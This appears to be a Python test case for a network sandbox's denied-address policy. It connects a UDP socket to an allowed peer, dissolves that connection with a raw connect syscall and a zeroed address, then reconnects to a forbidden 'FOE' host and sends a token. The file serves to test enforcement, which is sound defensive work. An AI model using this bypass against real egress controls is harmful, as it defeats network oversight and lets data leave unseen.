"""A datagram socket connected anew
Connects to a friend, dissolves that, and connects to the foe.
policy: denied-address
audit: explicitlyDeniedIP
proof: arrival
"""


def attack(at):
    sender = at.udp()
    sender.connect((at.FRIEND, at.PORT))
    at.syscall(42, sender.fileno(), b'\0' * 16, 16)
    sender.connect((at.FOE, at.PORT))
    sender.send(at.token)
    return True
